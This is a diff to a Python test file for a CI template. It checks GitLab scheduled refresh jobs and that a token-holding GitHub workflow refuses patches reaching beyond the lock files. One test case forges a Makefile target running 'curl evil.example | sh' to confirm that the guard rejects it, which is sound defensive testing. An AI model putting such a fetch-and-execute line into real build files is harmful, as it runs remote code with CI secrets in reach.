@@ -181,8 +181,13 @@ def test_gitlab_refresh_runs_only_in_scheduled_pipelines(project: Path) -> None:
     publishing jobs' environment, out of the tests' reach."""
     pipeline = load(project / ".gitlab-ci.yml")
     refresh, push = pipeline["refresh"], pipeline["refresh:push"]
+    # A stage of their own: GitLab creates no pipeline whose jobs are all in .pre or .post.
+    assert pipeline["stages"][0] == "refresh"
     for job in (refresh, push):
-        assert job["stage"] == ".pre" and job["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
+        assert job["stage"] == "refresh" and job["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
+    assert push["variables"]["GIT_STRATEGY"] == "clone"
+    uv_version = re.search(r"uv:(\d+\.\d+\.\d+)", (TEMPLATE / "template/base/linked.py").read_text())
+    assert uv_version and f"uv=={uv_version.group(1)}" in " ".join(refresh["before_script"])
     assert refresh["script"][:2] == ["make lock UPGRADE=1", "make check"] and "environment" not in refresh
     assert push["needs"] == ["refresh"] and push["environment"] == {"name": "refresh", "action": "prepare"}
     assert "make " not in "\n".join(push["script"]) and "BOTS_TOKEN" not in "\n".join(refresh["script"])
@@ -619,22 +624,32 @@ def test_weekly_refresh_brings_an_upstream_fix_into_a_published_base(registry: R
         docker("rmi", "--force", *refs, f"{registry.host}/bots/fresh:t1", f"{registry.host}/bots/freshbase:buildcache")
 
 
-def test_the_refresh_pull_request_job_applies_only_the_locks_files(project: Path, tmp_path: Path) -> None:
+@pytest.mark.parametrize("forged", ["makefile", "rename", "mode"])
+def test_the_refresh_pull_request_job_applies_only_the_locks_files(project: Path, tmp_path: Path,
+                                                                   forged: str) -> None:
     """The job holding BOTS_TOKEN runs no make and no uv: it applies the first job's patch to the three
-    files the lock writes, and refuses one that reaches further (the Makefile, say)."""
+    files the lock writes, and refuses one that reaches further: another file, a rename onto one of
+    them (numstat names it by its new name alone), a mode change."""
     copy = tmp_path / "copy"
     shutil.copytree(project, copy)
     git(copy, "init", "-q")
     git(copy, "add", "-A")
     git(copy, *ME, "commit", "-qm", "main")
-    (copy / "Dockerfile").write_text((copy / "Dockerfile").read_text() + "# moved\n")
-    (copy / "Makefile").write_text((copy / "Makefile").read_text() + "\nall:\n\tcurl evil.example | sh\n")
+    if forged == "makefile":
+        (copy / "Dockerfile").write_text((copy / "Dockerfile").read_text() + "# moved\n")
+        (copy / "Makefile").write_text((copy / "Makefile").read_text() + "\nall:\n\tcurl evil.example | sh\n")
+    elif forged == "rename":
+        git(copy, "rm", "-q", "Dockerfile")
+        git(copy, "mv", ".gitlab-ci.yml", "Dockerfile")
+    else:
+        (copy / "Dockerfile").chmod(0o755)
+    git(copy, "add", "-A")
     patch = tmp_path / "refresh.patch"
-    patch.write_text(git(copy, "diff", "--binary") + "\n")
-    git(copy, "checkout", "--", ".")
+    patch.write_text(git(copy, "diff", "--cached", "-M", "--binary") + "\n")
+    git(copy, "reset", "-q", "--hard")
     (apply,) = [s for s in load(copy / ".github/workflows/refresh.yml")["jobs"]["pull-request"]["steps"] if "run" in s]
     result = subprocess.run(["bash", "-e", "-c", apply["run"]], cwd=copy, capture_output=True, text=True,
                             env={**os.environ, "PATCH": str(patch)})
     assert result.returncode == 1
-    assert result.stderr.strip() == "refusing a patch that touches more than the lock's files: Makefile"
+    assert result.stderr.startswith("refusing a patch that touches more than the lock's files: ")
     assert not git(copy, "status", "--porcelain")
